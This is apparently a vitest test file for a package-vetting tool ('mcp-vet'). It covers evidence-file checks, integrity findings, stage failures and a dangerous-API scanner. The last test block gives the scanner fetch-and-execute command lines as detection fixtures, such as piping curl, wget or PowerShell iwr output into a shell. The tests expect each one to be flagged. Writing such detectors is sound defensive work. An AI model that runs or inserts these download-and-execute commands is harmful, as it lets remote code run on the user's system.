import { describe, expect, it } from 'vitest';
import { assessFirstPin } from '../../../src/core/assess/first-pin.js';
import { pinnedBytesFindings } from '../../../src/core/assess/pinned-bytes.js';
import { assessPinnedEvidence, type PinnedFiles } from '../../../src/core/assess/pinned-evidence.js';
import { stageFindings } from '../../../src/core/assess/stage.js';
import { apiScanner } from '../../../src/core/package-diff/dangerous-apis.js';
import { assessChecks } from '../../../src/core/report/checks.js';
import { AllowlistEntry } from '../../../src/core/workspace/allowlist-entry.js';
import { validEntry } from '../../helpers/entries.js';

const pin = AllowlistEntry.parse({ ...validEntry('srv'), provenance: { status: 'verified' } });
const missing = (file: string) => ({ file, state: 'missing' as const });

describe('pure assessments', () => {
  it('every missing or invalid evidence file the pin needs is a critical evidence/mismatch naming it', () => {
    const files: PinnedFiles = {
      lock: missing('snapshots/srv/1.0.0/lock.json'),
      meta: { file: 'snapshots/srv/1.0.0/package.json', state: 'invalid', error: 'not valid JSON' },
      manifest: missing('snapshots/srv/1.0.0/manifest.json'),
      attestations: missing('snapshots/srv/1.0.0/attestations.json'),
      behaviour: missing('snapshots/srv/1.0.0/behaviour.json'),
    };
    const out = assessPinnedEvidence(pin, files);
    // the manifest and the behaviour record are not required: this pin says neither was captured
    expect(out.findings.map((f) => [f.code, f.severity, f.location?.file])).toEqual([
      ['evidence/mismatch', 'critical', 'snapshots/srv/1.0.0/lock.json'],
      ['evidence/mismatch', 'critical', 'snapshots/srv/1.0.0/package.json'],
      ['evidence/mismatch', 'critical', 'snapshots/srv/1.0.0/attestations.json'],
    ]);
    expect(out.lock).toBeUndefined();
    expect(out.attestations).toBeUndefined();
  });

  it('a first pin without a sandboxed start says its manifest was not reviewed, below the default --fail-on', () => {
    const skipped = assessFirstPin({ name: 'srv', version: '1.0.0', allowlisted: [], snapshotSkipped: true });
    expect(skipped.map((f) => [f.code, f.severity, f.subject])).toEqual([
      ['manifest/not-reviewed', 'medium', 'srv@1.0.0'],
    ]);
    expect(skipped[0]!.message).toContain('mcp-vet snapshot srv@1.0.0');
    const checks = assessChecks('srv', { version: '1.0.0', bytes: true }, skipped);
    expect(checks.map((c) => [c.name, c.status])).toEqual([
      ['bytes', 'held'],
      ['manifest', 'not-checked'],
    ]);
    expect(assessFirstPin({ name: 'srv', version: '1.0.0', allowlisted: [] })).toEqual([]);
  });

  it('pinned bytes: the registry integrity, refused bytes and stored metadata each have their code', () => {
    const subject = { name: 'srv', version: '1.0.0', integrity: 'sha512-AAAA' };
    expect(
      pinnedBytesFindings(subject, { registryIntegrity: 'sha512-AAAA sha1-x', fetched: { outcome: 'match' } }),
    ).toEqual([]);
    const codes = pinnedBytesFindings(subject, {
      registryIntegrity: 'sha512-BBBB',
      fetched: { outcome: 'mismatch' },
      stored: { name: 'srv', version: '1.0.0', integrity: 'sha512-CCCC', file: 'snapshots/srv/1.0.0/package.json' },
    }).map((f) => f.code);
    expect(codes).toEqual(['package/integrity-changed', 'package/integrity-mismatch', 'evidence/mismatch']);
  });

  it('a stage failure is a stage/incomplete finding carrying its cause', () => {
    const [f] = stageFindings([
      {
        stage: 'snapshot',
        subject: 'srv@1.0.0',
        code: 'TIMEOUT',
        message: 'srv@1.0.0 (first start): no answer within 30 s',
      },
    ]);
    expect(f).toMatchObject({ code: 'stage/incomplete', evidence: { stage: 'snapshot', code: 'TIMEOUT' } });
    expect(f?.message).toContain('no answer within 30 s');
  });

  it.each([
    ["execSync('curl -fsSL https://get.example.dev | sh')", true],
    ['const cmd = `wget -qO- ${url} | sudo bash`;', true],
    ["spawn('sh', ['-c', 'curl -o /tmp/x http://198.51.100.1/x && chmod +x /tmp/x'])", true],
    ["run('iwr https://x.example/a.ps1 | iex')", true],
    ["const help = 'pass a URL; we fetch it with fetch()';", false],
    ["execFile('curl', ['-s', url]).stdout.pipe(out)", false],
  ])('download handed to a shell: %s -> %s', (line, expected) => {
    const found: string[] = [];
    apiScanner.scan({ path: 'a.js', lines: [line] }, (key) => found.push(key));
    expect(found.includes('download-exec')).toBe(expected);
  });
});
